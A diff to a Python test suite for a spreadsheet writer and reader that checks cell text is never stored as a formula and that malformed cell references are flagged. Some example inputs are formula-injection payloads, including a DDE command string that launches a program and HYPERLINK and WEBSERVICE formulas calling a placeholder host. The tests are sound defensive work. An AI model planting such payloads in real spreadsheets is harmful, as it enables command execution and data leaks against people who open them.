@@ -1,5 +1,6 @@
 """Workbooks written and read: no digit lost, nothing executed, nothing guessed."""
 
+import re
 import stat
 from collections.abc import Callable, Sequence
 from contextlib import suppress
@@ -130,6 +131,30 @@ def test_a_text_is_a_text_whatever_it_looks_like(path: Path, text: str) -> None:
     assert "<f>" not in xml
     assert "<hyperlink" not in xml
     assert xml.count("<v>") == 0
+
+
+OPENINGS = "=+-@\t\r\n\x00＝＋－＠"
+"""What makes a spreadsheet take the rest of a cell for something to be worked out."""
+
+
+@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=40)
+@given(rest=st.text("=+-@\t\r\n\x00＝＋－＠ 1A:!|'\"(),&<>/", max_size=24))
+@example(rest="cmd|'/C calc'!A1")
+@example(rest='HYPERLINK("http://a.b/?"&A1,"x")')
+@example(rest='WEBSERVICE("http://a.b")')
+@example(rest="")
+def test_no_text_is_worked_out_however_it_opens(path: Path, rest: str) -> None:
+    texts_written = [opening + rest for opening in OPENINGS]
+    write(path, [(text, Fen(1)) for text in texts_written])
+    assert [row[0] for row in read_sheet(path)[1:]] == [Cell(text) for text in texts_written]
+    xml = part(path, SHEET)
+    cells = re.findall(r'<c r="A(?:[2-9]|1\d)"[^>]*>', xml)
+    assert len(cells) == len(OPENINGS)
+    assert all('t="inlineStr"' in cell for cell in cells)
+    assert "<f" not in re.sub(r"<t[ >].*?</t>", "", xml, flags=re.DOTALL)
+    with ZipFile(path) as archive:
+        names = archive.namelist()
+    assert not [name for name in names if "external" in name.lower() or "sheet1.xml.rels" in name]
 
 
 anything = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\ufffe\uffff"))
@@ -351,6 +376,37 @@ def test_as_many_cells_as_may_be_are_read(path: Path) -> None:
 def test_a_text_that_looks_like_a_far_cell_is_none(path: Path) -> None:
     write(path, [('<c r="XFD1048576" t="e">', None)])
     assert texts(path)[1] == ['<c r="XFD1048576" t="e">', ""]
+
+
+MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+FAR_CELLS = {
+    "more letters than a column has": '<c r="DDDDDDDDDDDDDDDDDDDDDDF8"/>',
+    "more digits than a row has": '<c r="A999999999"/>',
+    "the end of a tag in quotes": """<c s=">" t='>' r="XFD1048576"/>""",
+    "another prefix": f'<a-b:c xmlns:a-b="{MAIN}" r="XFD1048576"/>',
+    "two places": '<c r="A1" r="XFD1048576"/>',
+}
+
+
+@pytest.mark.parametrize("form", FAR_CELLS)
+def test_a_far_cell_is_told_in_whatever_form_the_reader_would_take_it(
+    path: Path, form: str
+) -> None:
+    make(path, lambda _book, sheet: sheet.write_string(0, 0, "C1"))
+    row = f"<row>{FAR_CELLS[form]}</row></sheetData>".encode()
+    rewrite(path, SHEET, lambda xml: xml.replace(b"</sheetData>", row))
+    assert fault(path) == SheetFault.TOO_MUCH
+
+
+def test_a_far_cell_is_told_in_a_sheet_of_whatever_name(path: Path) -> None:
+    make(path, lambda _book, sheet: sheet.write_string(2**20 - 1, 2**14 - 1, "x"))
+    with ZipFile(path) as archive:
+        parts = {each: archive.read(each) for each in archive.namelist()}
+    with ZipFile(path, "w") as archive:
+        for each, content in parts.items():
+            renamed = content.replace(b"worksheets/sheet1.xml", b"worksheets/sheet1.dat")
+            archive.writestr(each.replace("sheet1.xml", "sheet1.dat"), renamed)
+    assert fault(path) == SheetFault.TOO_MUCH
 
 
 def test_an_error_in_a_cell_is_not_taken_for_nothing(path: Path) -> None:
